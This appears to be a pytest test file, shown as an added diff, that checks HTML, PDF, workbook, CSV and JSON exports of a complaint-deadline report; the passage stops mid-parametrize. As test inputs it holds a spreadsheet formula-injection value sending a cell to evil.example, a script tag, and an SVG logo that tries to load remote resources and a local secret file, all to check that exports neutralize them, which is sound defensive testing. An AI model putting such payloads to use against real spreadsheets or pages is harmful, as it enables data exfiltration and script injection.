@@ -1,0 +1,883 @@
+"""One set of figures in every format: each is opened by another program and read back."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import re
+import shutil
+import subprocess
+import sys
+import threading
+import zipfile
+from collections.abc import Iterator, Mapping
+from dataclasses import replace
+from datetime import date, datetime
+from functools import cache
+from html.parser import HTMLParser
+from http.server import BaseHTTPRequestHandler, HTTPServer
+from pathlib import Path
+from types import SimpleNamespace
+from typing import TYPE_CHECKING
+from xml.etree import ElementTree
+from zoneinfo import ZoneInfo
+
+import cffi
+import pypdf
+import pytest
+from conftest import REPOSITORY
+from python_calamine import CalamineWorkbook
+from support.browser import Browser, browsing
+from support.programs import needed
+from support.site_mistakes import mistakes
+from support.synthetic_reports import RULES, view, without_rows
+
+from settings import load_site
+from settings.report import Letterhead
+from sla.metrics.table import Cell, Measure, Row, Table
+from tasks.reports.formats.json_csv import report_csv, report_json, sha256_of
+from tasks.reports.formats.pdf_support import REMEDY, PdfMissing, pdf_trouble
+from tasks.reports.formats.xlsx import report_xlsx
+from tasks.reports.labels import Name, Names, names_of
+from tasks.reports.model import ReportView
+from tasks.reports.public_edition import public_edition
+from tasks.text.catalog import words
+
+if TYPE_CHECKING:
+    from tasks.reports.formats.plots import Plot
+
+ZONE = ZoneInfo("Asia/Makassar")
+LOCALES = ("id", "en")
+SOFFICE = shutil.which("soffice")
+
+FORMULA = '=HYPERLINK("http://evil.example/"&A1,"klik")'
+MARKUP = "<script>alert('&')</script><b>\"Dinas\"</b>"
+LONG = "Dinas " + "Panjang" * 42
+RTL = "مديرية الصحة"
+EMOJI = "Dinas 🏥 \u202eKesehatan $x^2$ _awal"
+ODD = [FORMULA, MARKUP, LONG, RTL, EMOJI, "+1", "-2", "@SUM(A1)", ""]
+
+
+def odd_report(locale: str = "id") -> ReportView:
+    """A report in which every name is unlike a name."""
+    report = view(locale, units=ODD, count=100)
+    odd = dict(zip(("Air Bersih", "Kesehatan", "Sampah"), (FORMULA, MARKUP, EMOJI), strict=True))
+    names = {key: name for key, name in report.names.known.items() if key[0] == "rule"}
+    names["rule", next(iter(RULES))] = Name(MARKUP, FORMULA)
+
+    def changed(table: Table) -> Table:
+        rows = tuple(
+            replace(
+                row,
+                key=odd.get(row.key, row.key) if table.of == "category" else row.key,
+                cells=tuple(odd.get(c, c) if isinstance(c, str) else c for c in row.cells),
+            )
+            for row in table.rows
+        )
+        return replace(table, rows=rows)
+
+    tables = tuple(map(changed, report.tables))
+    return replace(
+        report,
+        site=MARKUP,
+        names=Names(locale, names),
+        tables=tables,
+        sha256=sha256_of(tables),
+        letterhead=replace(report.letterhead, lines=(MARKUP, LONG, RTL)),
+    )
+
+
+MAKING = {
+    "usual": lambda locale: view(locale, units=12, count=120),
+    "odd": odd_report,
+    "empty": lambda locale: without_rows(view(locale)),
+    "nothing": lambda locale: view(locale, units=1, count=0),
+    "public": lambda locale: public_edition(view(locale, units=12, count=90)),
+}
+EVERY = pytest.mark.parametrize("kind", MAKING)
+BOTH = pytest.mark.parametrize("locale", LOCALES)
+PAGES = pytest.mark.parametrize(
+    ("kind", "locale"),
+    [
+        ("usual", "id"),
+        ("usual", "en"),
+        ("odd", "id"),
+        ("empty", "en"),
+        ("nothing", "id"),
+        ("public", "en"),
+    ],
+)
+"""Each kind of report once, and the usual one in both languages."""
+
+
+# Making takes long, reading does not: each report is made once in each format, and only read. The
+# imports inside load matplotlib, which takes a second where no report is made.
+
+
+@cache
+def report_of(kind: str, locale: str) -> ReportView:
+    return MAKING[kind](locale)
+
+
+def plots(report: ReportView) -> Mapping[str, Plot]:
+    from tasks.reports.formats.plots import plots as draw  # noqa: PLC0415
+
+    return draw(report, ZONE)
+
+
+@cache
+def drawn_of(kind: str, locale: str) -> Mapping[str, Plot]:
+    return plots(report_of(kind, locale))
+
+
+def report_html(report: ReportView, drawn: Mapping[str, Plot]) -> str:
+    from tasks.reports.formats.html import report_html as write  # noqa: PLC0415
+
+    return write(report, ZONE, drawn)
+
+
+@cache
+def page_of(kind: str, locale: str) -> str:
+    return report_html(report_of(kind, locale), drawn_of(kind, locale))
+
+
+@cache
+def workbook_of(kind: str, locale: str) -> bytes:
+    return report_xlsx(report_of(kind, locale), ZONE)
+
+
+# --- figures, read back from what people see ---
+
+
+def figure(text: str, locale: str) -> float | str | None:
+    """The number that a reader takes from a text; what is withheld and no value as they are."""
+    if text in {"*", "–"}:
+        return text
+    plain = text.replace(".", "").replace(",", ".") if locale == "id" else text.replace(",", "")
+    if plain.endswith("%"):
+        return float(plain[:-1]) / 100
+    return float(plain)
+
+
+def same(found: object, cell: Cell, *, digits: float = 0.00051) -> bool:
+    """Whether a figure read back is that of a cell, within what the format shows."""
+    if cell is None:
+        return found in {"–", "", None}
+    if isinstance(cell, str):
+        return found == "*"
+    return isinstance(found, int | float) and abs(found - float(cell)) <= digits  # type: ignore[arg-type]
+
+
+def numeric(table: Table, row: Row) -> list[tuple[int, Cell, Measure]]:
+    """Place, cell and measure of the figures of a row."""
+    measures = [row.measure or column.measure for column in table.columns]
+    return [
+        (place, cell, measure)
+        for place, (cell, measure) in enumerate(zip(row.cells, measures, strict=True))
+        if measure in {Measure.COUNT, Measure.SHARE, Measure.DAYS}
+    ]
+
+
+def tolerance(measure: Measure) -> float:
+    """Half of the last digit that people are shown."""
+    return {Measure.SHARE: 0.00051, Measure.DAYS: 0.051}.get(measure, 0)
+
+
+# --- HTML ---
+
+VOID = {"meta", "img", "br", "link", "hr", "input"}
+
+
+class Page(HTMLParser):
+    """A page as a tree walk sees it: tables by section, and everything that leads outside."""
+
+    def __init__(self, source: str) -> None:
+        super().__init__()
+        self.open: list[str] = []
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.tables: dict[str, list[list[str]]] = {}
+        self.below: dict[str, list[str]] = {}
+        self.section = ""
+        self.rows: list[list[str]] = []
+        self.cell: list[str] | None = None
+        self.skip = 0
+        self.style = ""
+        self.feed(source)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+        if tag not in VOID:
+            self.open.append(tag)
+        if tag == "section":
+            self.section = dict(attrs)["id"] or ""
+        elif tag == "tr" and dict(attrs).get("class") == "below":
+            self.rows = [[]]
+        elif tag == "tr":
+            self.rows = self.tables.setdefault(self.section, [])
+            self.rows.append([])
+        elif tag in {"td", "th"}:
+            self.cell = []
+        elif dict(attrs).get("class") == "detail":
+            self.skip = len(self.open)
+
+    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+    def handle_endtag(self, tag: str) -> None:
+        assert self.open, tag
+        assert self.open.pop() == tag, (tag, self.open)
+        if len(self.open) < self.skip:
+            self.skip = 0
+        if tag in {"td", "th"} and self.cell is not None:
+            self.rows[-1].append("".join(self.cell).strip())
+            self.cell = None
+        if tag == "tr" and self.rows is not self.tables.get(self.section):
+            self.below.setdefault(self.section, []).extend(self.rows[-1])
+
+    def handle_data(self, data: str) -> None:
+        if self.open and self.open[-1] == "style":
+            self.style += data
+        if self.cell is not None and not self.skip:
+            self.cell.append(data)
+
+
+@PAGES
+def test_the_page_is_well_formed_and_needs_nothing_from_outside(kind, locale):
+    source = page_of(kind, locale)
+    page = Page(source)
+    assert source.startswith("<!DOCTYPE html>")
+    assert page.open == []
+    assert ("html", {"lang": locale}) in page.tags
+    kinds = {tag for tag, _ in page.tags}
+    assert kinds & {"script", "link", "iframe", "object", "base", "form"} == set()
+    leads = [
+        value
+        for _, attributes in page.tags
+        for name, value in attributes.items()
+        if name in {"src", "href", "srcset", "action", "xlink:href", "data"}
+    ]
+    assert [lead for lead in leads if lead and not lead.startswith(("#", "data:"))] == []
+    assert "@import" not in page.style
+    assert re.findall(r"url\((?!#)", source) == []
+    ids = [attributes["id"] for _, attributes in page.tags if "id" in attributes]
+    assert len(ids) == len(set(ids))
+    inner = {lead[1:] for lead in leads if lead and lead.startswith("#")}
+    assert inner <= set(ids)
+    heads = [attributes for tag, attributes in page.tags if tag == "th"]
+    assert all("scope" in attributes for attributes in heads)
+    assert source.count("<table") == source.count("<caption>")
+
+
+@PAGES
+def test_the_page_shows_the_figures_of_the_tables(kind, locale):
+    from tasks.reports.formats.html import MOST_ROWS  # noqa: PLC0415
+
+    report = report_of(kind, locale)
+    page = Page(page_of(kind, locale))
+    for table in report.tables:
+        lines = page.tables.get(table.key, [])[1:]
+        assert len(lines) == min(len(table.rows), MOST_ROWS)
+        for line, row in zip(lines, table.rows, strict=False):
+            shift = 0 if table.key == "late" else 1  # the ticket names the row
+            for place, cell, measure in numeric(table, row):
+                found = figure(line[place + shift], locale)
+                assert same(found, cell, digits=tolerance(measure)), (
+                    table.key,
+                    row.key,
+                    found,
+                    cell,
+                )
+
+
+LINK = "https://contohkab.example/l/{ticket}"
+
+
+@BOTH
+def test_who_was_told_stands_below_each_late_complaint_and_its_number_is_a_link(locale):
+    report = replace(report_of("usual", locale), ticket_link=LINK)
+    page = Page(report_html(report, {}))
+    late = report.table("late")
+    assert late
+    told = words(locale)("report.column.told")
+    assert page.below["late"] == [f"{told}: {row.cells[-1]}" for row in late.rows]
+    leads = [attributes["href"] for tag, attributes in page.tags if tag == "a"]
+    tickets = [LINK.format(ticket=row.cells[0]) for row in late.rows]
+    assert [lead for lead in leads if lead and not lead.startswith("#")] == tickets
+
+
+EXPLAIN = {
+    "id": "tenggat explain NOMOR --as-of 2026-12-02T09:30:00+08:00",
+    "en": "tenggat explain TICKET --as-of 2026-12-02T09:30:00+08:00",
+}
+
+
+@BOTH
+def test_each_format_says_what_proves_a_complaint(locale, tmp_path):
+    report = replace(report_of("usual", locale), ticket_link=LINK)
+    assert EXPLAIN[locale] in report_html(report, {})
+    found = json.loads(report_json(report))
+    assert found["ticket_link"] == LINK
+    path = tmp_path / "r.xlsx"
+    path.write_bytes(report_xlsx(report, ZONE))
+    late = report.table("late")
+    assert late
+    assert [LINK.format(ticket=row.cells[0]) for row in late.rows] == links_of(path)
+    t = words(locale)
+    sheets = sheets_of(path.read_bytes(), tmp_path)
+    assert any(EXPLAIN[locale] in str(line) for line in sheets[t("report.sheet.cover")])
+    assert [line[1] for line in sheets[t("report.section.late")][1:]] == [
+        row.cells[0] for row in late.rows
+    ]
+    public = public_edition(report)
+    for text in (report_html(public, {}), report_json(public)):
+        assert "tenggat explain" not in text
+        assert "contohkab.example/l" not in text
+
+
+def links_of(path: Path) -> list[str]:
+    """Where the links of a workbook lead, in the order of their cells."""
+    with zipfile.ZipFile(path) as book:
+        parts = [name for name in book.namelist() if "worksheets/_rels" in name]
+        texts = [book.read(name).decode() for name in parts]
+    return re.findall(r'hyperlink" Target="([^"]*)" TargetMode="External"', "".join(texts))
+
+
+@BOTH
+def test_a_headline_tells_in_words_how_it_changed(locale):
+    source = page_of("usual", locale)
+    tiles = re.findall(r'data-figure="(\w+)">(.*?)</li>', source, re.DOTALL)
+    said = {key: re.sub(r"<[^>]*>|\s+", " ", text) for key, text in tiles}
+    up = {
+        "id": "▼ turun 7 dari periode sebelumnya (127)",
+        "en": "▼ down 7 from the previous period (127)",
+    }
+    assert up[locale] in said["received"]
+    points = {"id": "poin", "en": "points"}[locale]
+    assert points in said["on_time"]
+    assert "▲" in said["on_time"]
+    assert "▲" not in said["late"]
+    assert "▼" not in said["late"]
+
+
+@pytest.fixture(scope="module")
+def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
+    with browsing(tmp_path_factory.mktemp("browser")) as opened:
+        yield opened
+
+
+FITS = """(() => {
+  const wide = document.documentElement.scrollWidth;
+  const out = [...document.querySelectorAll('body *')].filter(e =>
+    !e.closest('.scroll') && !e.closest('caption') && !e.closest('svg')
+    && e.getBoundingClientRect().right > innerWidth + 1).map(e => e.tagName);
+  const text = [...document.querySelectorAll('figure svg text')]
+    .filter(e => e.getClientRects().length).map(e => e.getBoundingClientRect().height);
+  return [wide, innerWidth, out, Math.min(...text, 99)];
+})()"""
+
+
+@pytest.mark.browser
+@PAGES
+@pytest.mark.parametrize("width", [360, 1040])
+def test_the_page_fits_a_phone_and_a_desk(browser, kind, locale, width):
+    browser.show(page_of(kind, locale), width, phone=width < 700)
+    wide, window, out, smallest = browser.run(FITS)
+    assert (wide, out) == (window, [])
+    assert smallest >= 7  # pixels: labels of plots can be read
+
+
+# --- PDF ---
+
+
+PRINTED = [("usual", "id"), ("odd", "en"), ("empty", "en"), ("public", "en")]
+EVERY_PRINTED = pytest.mark.parametrize(("kind", "locale"), PRINTED)
+FULL_PRINTED = pytest.mark.parametrize(("kind", "locale"), PRINTED[:2])
+
+
+def report_pdf(report: ReportView, drawn: Mapping[str, Plot]) -> bytes:
+    needed(not pdf_trouble(), "Pango", REMEDY)
+    from tasks.reports.formats.pdf import report_pdf as write  # noqa: PLC0415
+
+    return write(report, ZONE, drawn)
+
+
+@cache
+def printed(kind: str, locale: str) -> bytes:
+    return report_pdf(report_of(kind, locale), drawn_of(kind, locale))
+
+
+@cache
+def text_of(pdf: bytes) -> list[str]:
+    """The text of each page; pypdf gives the codes of rare signs' fonts byte by byte."""
+    pages = pypdf.PdfReader(io.BytesIO(pdf)).pages
+    return [page.extract_text().replace("\0", "") for page in pages]
+
+
+@EVERY_PRINTED
+def test_the_pdf_is_tagged_fit_for_the_archive_and_a4(kind, locale):
+    reader = pypdf.PdfReader(io.BytesIO(printed(kind, locale)))
+    root = reader.trailer["/Root"]
+    assert root["/MarkInfo"]["/Marked"]
+    assert root["/StructTreeRoot"]["/K"]
+    assert root["/Lang"] == locale
+    metadata = root["/Metadata"].get_object().get_data().decode()
+    assert 'pdfaid:part="2"' in metadata
+    assert 'pdfaid:conformance="A"' in metadata
+    assert root["/OutputIntents"]
+    assert reader.metadata
+    assert reader.metadata.title
+    assert "/Filespec" not in {o.get("/Type") for o in objects(reader) if isinstance(o, dict)}
+    for page in reader.pages:
+        assert [round(float(side)) for side in page.mediabox[2:]] == [595, 842]
+    for found in objects(reader):
+        if isinstance(found, dict) and found.get("/Type") == "/FontDescriptor":
+            assert {"/FontFile", "/FontFile2", "/FontFile3"} & set(found)
+        if isinstance(found, dict) and found.get("/S") == "/URI":
+            pytest.fail("leads outside")
+
+
+def objects(reader: pypdf.PdfReader) -> Iterator[object]:
+    for number in range(1, int(reader.trailer["/Size"])):
+        yield reader.get_object(pypdf.generic.IndirectObject(number, 0, reader))
+
+
+@EVERY_PRINTED
+def test_the_pdf_has_page_numbers_contents_and_bookmarks(kind, locale):
+    t = words(locale)
+    report = report_of(kind, locale)
+    reader = pypdf.PdfReader(io.BytesIO(printed(kind, locale)))
+    pages = text_of(printed(kind, locale))
+    for number, page in enumerate(pages, 1):
+        assert f"{t('report.page')} {number} {t('report.page_of')} {len(pages)}" in page
+    titles = [t(f"report.section.{table.key}") for table in report.tables] + [t("report.method")]
+    marks = [f"{number}. {title}" for number, title in enumerate(titles, 1)]
+    outline = [each for each in reader.outline if not isinstance(each, list)]
+    assert [each.title for each in outline] == marks
+    contents = " ".join(pages[0].split())
+    for mark, each in zip(marks, outline, strict=True):
+        page = reader.get_destination_page_number(each)
+        assert page is not None
+        assert mark in " ".join(pages[page].split())
+        assert re.search(rf"{re.escape(mark)}[ .]*{page + 1}\b", contents), (mark, page + 1)
+
+
+@pytest.mark.parametrize(("kind", "locale"), [PRINTED[0], PRINTED[3]])
+def test_the_pdf_shows_the_figures_of_the_tables(kind, locale):
+    report = report_of(kind, locale)
+    stream = " ".join(" ".join(text_of(printed(kind, locale))).split())
+    small = words(locale)("report.small")
+    tokens = [
+        token
+        for token in stream.replace(small, " ").split()
+        if re.fullmatch(r"\d[\d.,]*%?|[*–]", token)
+    ]
+    for table in report.tables:
+        if table.key in {"late", "quality"}:
+            continue
+        for row in table.rows:
+            wanted = numeric(table, row)
+            found = any(
+                all(
+                    same(figure(token, locale), cell, digits=tolerance(measure))
+                    for token, (_, cell, measure) in zip(tokens[at:], wanted, strict=False)
+                )
+                for at in range(len(tokens) - len(wanted) + 1)
+            )
+            assert found, (table.key, row.key, wanted)
+
+
+@FULL_PRINTED
+def test_the_pdf_bears_letterhead_and_signature(kind, locale):
+    pages = text_of(printed(kind, locale))
+    if kind == "usual":
+        assert "PEMERINTAH KABUPATEN CONTOH" in pages[0]
+    assert "Jalan Merdeka Nomor 1" in pages[0]
+    day = {"id": "Contoh, 2 Desember 2026", "en": "Contoh, 2 December 2026"}[locale]
+    last = pages[-1]
+    parts = [day, "Inspektur Kabupaten Contoh,", "Drs. H. Baharintan Dolo", "NIP 19680412"]
+    places = [last.index(part) for part in parts]
+    assert places == sorted(places)
+
+
+@FULL_PRINTED
+def test_the_pdf_says_what_proves_a_complaint(kind, locale):
+    assert EXPLAIN[locale] in " ".join(" ".join(text_of(printed(kind, locale))).split())
+
+
+@pytest.mark.parametrize("subset", ["libharfbuzz-subset", "fontTools"])
+def test_the_pdf_is_the_same_when_it_is_made_again(subset, monkeypatch):
+    """Also a second later by fontTools, which writes a time into the fonts that it cuts to size."""
+    needed(not pdf_trouble(), "Pango", REMEDY)
+    if subset == "fontTools":
+        monkeypatch.setattr("weasyprint.pdf.fonts.harfbuzz_subset", None)
+    made = []
+    for clock in (lambda: 1_800_000_000.0, lambda: 1_800_000_001.0):
+        monkeypatch.setattr("fontTools.misc.timeTools.time", SimpleNamespace(time=clock))
+        made.append(report_pdf(report_of("empty", "id"), {}))
+    assert made[0] == made[1]
+    assert "SOURCE_DATE_EPOCH" not in os.environ
+
+
+class Listening(BaseHTTPRequestHandler):
+    """Notes who asks."""
+
+    def do_GET(self) -> None:
+        self.server.asked.append(self.path)  # type: ignore[attr-defined]
+        self.send_response(404)
+        self.end_headers()
+
+    def log_message(self, *_: object) -> None:
+        pass
+
+
+def test_no_logo_makes_the_report_ask_the_network_or_read_other_files(tmp_path):
+    server = HTTPServer(("127.0.0.1", 0), Listening)
+    server.asked = []  # type: ignore[attr-defined]
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        place = f"http://127.0.0.1:{server.server_port}"
+        secret = tmp_path / "secret.svg"
+        secret.write_text('<svg xmlns="http://www.w3.org/2000/svg"><text>rahasia</text></svg>')
+        logo = tmp_path / "logo.svg"
+        logo.write_text(
+            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
+            f' viewBox="0 0 9 9"><style>@import url({place}/style.css);</style>'
+            f'<image href="{place}/picture.png" width="9" height="9"/>'
+            f'<image xlink:href="{secret.as_uri()}" width="9" height="9"/>'
+            f'<use href="{place}/other.svg#a"/><rect width="9" height="9" fill="#00f"/></svg>',
+            encoding="utf-8",
+        )
+        report = replace(
+            report_of("empty", "id"), letterhead=Letterhead(logo=logo, lines=("Contoh",))
+        )
+        made = report_pdf(report, {})
+        assert server.asked == []  # type: ignore[attr-defined]
+        assert "rahasia" not in " ".join(text_of(made))
+        with_logo = report_html(report, {})
+        assert "data:image/svg+xml;base64," in with_logo
+    finally:
+        server.shutdown()
+        server.server_close()
+        thread.join()
+
+
+def test_without_pango_one_line_says_what_to_install(monkeypatch):
+    """As on a machine without the library: WeasyPrint is loaded anew, and fails."""
+    from tasks.reports.formats import pdf  # noqa: PLC0415
+
+    load = cffi.FFI.dlopen
+
+    def missing(self, name, *more):
+        if "pango" in str(name):
+            raise OSError(f"cannot load library {name!r}")
+        return load(self, name, *more)
+
+    monkeypatch.setattr(cffi.FFI, "dlopen", missing)
+    for name in [name for name in sys.modules if name.partition(".")[0] == "weasyprint"]:
+        monkeypatch.delitem(sys.modules, name)
+    monkeypatch.setattr(pdf, "pdf_trouble", pdf_trouble.__wrapped__)
+    with pytest.raises(PdfMissing) as trouble:
+        pdf.report_pdf(view(count=3), ZONE)
+    (line,) = str(trouble.value).splitlines()
+    assert line.startswith("no PDF: a system library of WeasyPrint is missing")
+    assert "libpango-1.0-0" in line
+
+
+# --- XLSX ---
+
+
+def sheets_of(
+    workbook: bytes, tmp_path: Path, name: str = "r.xlsx"
+) -> dict[str, list[list[object]]]:
+    path = tmp_path / name
+    path.write_bytes(workbook)
+    book = CalamineWorkbook.from_path(path)
+    return {sheet: book.get_sheet_by_name(sheet).to_python() for sheet in book.sheet_names}
+
+
+def compare(report: ReportView, sheets: dict[str, list[list[object]]], locale: str) -> int:
+    """Compare every cell of every table with the workbook; returns how many were."""
+    t, compared = words(locale), 0
+    for table in report.tables:
+        head, *lines = sheets[t(f"report.section.{table.key}")[:31]]
+        assert head[0] == t(f"report.of.{table.of}")
+        start = head.index(t(f"report.column.{table.columns[0].key}"), 1)
+        assert head[start:] == [t(f"report.column.{column.key}") for column in table.columns]
+        assert len(lines) == len(table.rows)
+        for line, row in zip(lines, table.rows, strict=True):
+            assert line[0] == report.names(table.of, row.key).text
+            for place, cell, measure in numeric(table, row):
+                found = line[start + place]
+                assert same(found, cell, digits=1e-9), (table.key, row.key, measure, found, cell)
+                compared += 1
+            for column, cell, found in zip(table.columns, row.cells, line[start:], strict=True):
+                if isinstance(cell, date):
+                    day = found.date() if isinstance(found, datetime) else found
+                    assert day == cell
+                elif column.measure is Measure.TEXT and not row.measure:
+                    assert found == cell
+    return compared
+
+
+@EVERY
+@BOTH
+def test_the_workbook_holds_the_tables_cell_by_cell(kind, locale, tmp_path):
+    report = report_of(kind, locale)
+    sheets = sheets_of(workbook_of(kind, locale), tmp_path)
+    assert compare(report, sheets, locale) > 10 or kind == "empty"
+    for name in sheets:
+        assert 0 < len(name) <= 31
+        assert not set(name) & set("[]:*?/\\")
+    t = words(locale)
+    cover = [str(cell) for line in sheets[t("report.sheet.cover")] for cell in line]
+    assert report.sha256 in cover
+    assert any("2026-12-02 09:30" in cell for cell in cover)
+
+
+@BOTH
+def test_the_workbook_lists_the_complaints_behind_each_row(locale, tmp_path):
+    report, t = report_of("usual", locale), words(locale)
+    sheets = sheets_of(workbook_of("usual", locale), tmp_path)
+    found = [(line[0], line[2], line[3]) for line in sheets[t("report.sheet.evidence")][1:]]
+    assert found == [
+        (t(f"report.section.{table.key}"), row.key, ticket)
+        for table in report.tables
+        for row in table.rows
+        for ticket in row.tickets
+    ]
+    public = sheets_of(report_xlsx(public_edition(report), ZONE), tmp_path, "p.xlsx")
+    assert t("report.sheet.evidence") not in public
+
+
+def test_what_a_sheet_has_no_room_for_is_told(tmp_path):
+    report, t = report_of("usual", "id"), words("id")
+    sheets = sheets_of(report_xlsx(report, ZONE, most=500), tmp_path)
+    assert len(sheets["Bukti"]) == 501
+    total = sum(len(row.tickets) for table in report.tables for row in table.rows)
+    cover = [str(cell) for line in sheets[t("report.sheet.cover")] for cell in line]
+    assert t("report.sheet.cut", kept=500, n=total - 500) in cover
+
+
+def test_the_workbook_is_safe_filtered_and_charted(tmp_path):
+    path = tmp_path / "r.xlsx"
+    path.write_bytes(workbook_of("odd", "id"))
+    unpacked = tmp_path / "x"
+    shutil.unpack_archive(path, unpacked, "zip")
+    parts = {
+        p.relative_to(unpacked).as_posix(): p.read_text(encoding="utf-8")
+        for p in unpacked.rglob("*.xml")
+    }
+    sheets = [text for name, text in parts.items() if name.startswith("xl/worksheets/")]
+    assert sheets
+    assert not any("<f>" in text or "<f " in text for text in sheets)
+    assert not any("hyperlink" in text for text in sheets)
+    assert sum("<autoFilter" in text for text in sheets) == len(sheets) - 1  # not on the cover
+    assert sum('state="frozen"' in text for text in sheets) == len(sheets) - 1
+    charts = [text for name, text in parts.items() if name.startswith("xl/charts/chart")]
+    assert sorted(re.findall(r"<c:(line|bar)Chart>", "".join(charts))) == [
+        "bar",
+        "bar",
+        "line",
+        "line",
+    ]
+    assert report_xlsx(odd_report(), ZONE) == path.read_bytes()
+
+
+def test_libreoffice_reads_the_same_figures_from_the_workbooks(tmp_path):
+    """Both are saved by it in its own format, at one start."""
+    needed(SOFFICE, "LibreOffice", "apt install libreoffice-calc")
+    kinds = ("usual", "odd")
+    for kind in kinds:
+        (tmp_path / f"{kind}.xlsx").write_bytes(workbook_of(kind, "en"))
+    subprocess.run(
+        [
+            str(SOFFICE),
+            f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
+            "--headless",
+            "--convert-to",
+            "ods",
+            "--outdir",
+            str(tmp_path / "out"),
+            *(str(tmp_path / f"{kind}.xlsx") for kind in kinds),
+        ],
+        check=True,
+        capture_output=True,
+        timeout=180,
+        env={**os.environ, "HOME": str(tmp_path)},
+    )
+    for kind in kinds:
+        book = CalamineWorkbook.from_path(tmp_path / "out" / f"{kind}.ods")
+        sheets = {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}
+        assert compare(report_of(kind, "en"), sheets, "en") > 300, kind
+
+
+# --- JSON and CSV ---
+
+
+@EVERY
+@BOTH
+def test_json_and_csv_hold_the_tables_and_are_the_same_bytes_again(kind, locale):
+    report = report_of(kind, locale)
+    text, lines = report_json(report), report_csv(report)
+    again = MAKING[kind](locale)
+    assert (text, lines) == (report_json(again), report_csv(again))
+    found = json.loads(text)
+    assert found["sha256"] == report.sha256
+    assert [table["key"] for table in found["tables"]] == [table.key for table in report.tables]
+    rows = list(csv.reader(io.StringIO(lines)))
+    assert rows[0] == ["table", "row", "column", "value"]
+    place = 1
+    for table, told in zip(report.tables, found["tables"], strict=True):
+        for row, line in zip(table.rows, told["rows"], strict=True):
+            assert (line["key"], line["tickets"]) == (row.key, list(row.tickets))
+            for column, cell in zip(table.columns, row.cells, strict=True):
+                value = line["cells"][column.key]
+                key, name, value_text = rows[place][1:]
+                assert (rows[place][0], name) == (table.key, column.key)
+                assert key.removeprefix("'") == row.key
+                if isinstance(cell, float):
+                    assert value == pytest.approx(cell, abs=1e-6)
+                    assert float(value_text) == pytest.approx(cell, abs=1e-6)
+                else:
+                    plain = cell.isoformat() if isinstance(cell, date) else cell
+                    assert value == plain
+                    assert value_text.removeprefix("'") == ("" if plain is None else str(plain))
+                place += 1
+    assert place == len(rows)
+
+
+def test_no_field_of_the_csv_is_a_formula():
+    fields = [field for line in csv.reader(io.StringIO(report_csv(odd_report()))) for field in line]
+    begun = [field for field in fields if field[:1] in {"=", "+", "@", "\t", "\r"}]
+    begun += [
+        field for field in fields if field.startswith("-") and not re.fullmatch(r"-[\d.]+", field)
+    ]
+    assert begun == []
+    assert f"'{FORMULA}" in fields
+
+
+def test_the_checksum_hangs_on_every_figure_and_ticket():
+    tables = view("id").tables
+    assert sha256_of(tables) == sha256_of(view("en").tables)
+    first = tables[1]
+    row = first.rows[0]
+    for changed in (
+        replace(row, cells=(row.cells[0] + 1, *row.cells[1:])),
+        replace(row, tickets=row.tickets[1:]),
+    ):
+        other = replace(first, rows=(changed, *first.rows[1:]))
+        assert sha256_of((tables[0], other, *tables[2:])) != sha256_of(tables)
+
+
+# --- plots ---
+
+
+@BOTH
+def test_each_plot_is_there_twice_the_same_and_says_something(locale):
+    drawn = drawn_of("usual", locale)
+    assert set(drawn) == {"by_unit", "ageing", "trend", "escalations"}
+    if locale == "id":
+        assert drawn == plots(report_of("usual", locale))
+    t = words(locale)
+    for plot in drawn.values():
+        root = ElementTree.fromstring(plot.svg)
+        texts = " ".join(node.text or "" for node in root.iter() if node.tag.endswith("text"))
+        assert texts
+        assert plot.title == t(f"report.plot.{plot.key}")
+        assert plot.says
+        assert "<metadata" not in plot.svg
+    assert t("report.plot.not_late") in drawn["ageing"].svg
+    assert {"id": "Mei 2026", "en": "May 2026"}[locale] in drawn["trend"].svg
+
+
+@pytest.mark.parametrize("kind", ["empty", "nothing"])
+def test_where_there_is_nothing_to_draw_a_sentence_stands(kind):
+    assert drawn_of(kind, "id") == {}
+    source = page_of(kind, "id")
+    assert "<svg" not in source
+    assert words("id")("report.nothing" if kind == "empty" else "report.no_plot") in source
+
+
+def test_a_plot_of_the_public_edition_draws_nothing_that_is_withheld():
+    public, drawn = report_of("public", "en"), drawn_of("public", "en")
+    units = public.table("by_unit")
+    assert units
+    places = [column.key for column in units.columns]
+    shown = [row for row in units.rows if isinstance(row.cells[places.index("share")], float)]
+    labels = [
+        re.sub("<[^>]*>", "", each) for each in re.findall(r"<text.*?</text>", drawn["by_unit"].svg)
+    ]
+    assert sum("%" in label for label in labels) == len(shown) + 5  # and the axis
+
+
+# --- names and the site's own file ---
+
+
+def test_names_come_from_the_site_in_the_readers_language():
+    site = load_site(REPOSITORY / "examples" / "kabupaten-contoh")
+    for locale in LOCALES:
+        names = names_of(site, locale, date(2026, 11, 30))
+        rule = site.bench.law.on("sp4n/first-follow-up", date(2026, 11, 30))
+        assert rule
+        text, detail = names("rule", rule.id)
+        assert text == rule.label[locale]
+        assert detail.startswith(rule.citation)
+        assert names("unit", "dinsos").text == "Dinas Sosial"
+        assert names("classification", "").text == words(locale)("classification.none")
+        assert names("month", "2026-05").text == {"id": "Mei 2026", "en": "May 2026"}[locale]
+        assert (
+            names("age", "0-3").text == {"id": "0–3 hari kerja", "en": "0–3 working days"}[locale]
+        )
+        assert "60" in names("age", "61-").text
+        assert names("rung", "+3wd").text == "+3wd"
+        assert names("kind", "breach").text == words(locale)("notice.breach")
+        assert names("figure", "on_time").text == words(locale)("report.figure.on_time")
+        assert names("unit", "").text == words(locale)("report.unnamed")
+
+
+def test_the_example_site_has_a_letterhead_and_another_needs_none():
+    head = load_site(REPOSITORY / "examples" / "kabupaten-contoh").letterhead
+    assert head.logo == REPOSITORY / "examples" / "kabupaten-contoh" / "logo.svg"
+    assert head.signature
+    assert head.signature.nip
+    assert load_site(REPOSITORY / "examples" / "boston").letterhead == Letterhead()
+
+
+SIGNED_BY = "[signature]\nplace = 'Salo'\ntitle = 'Inspektur'\n"
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        (
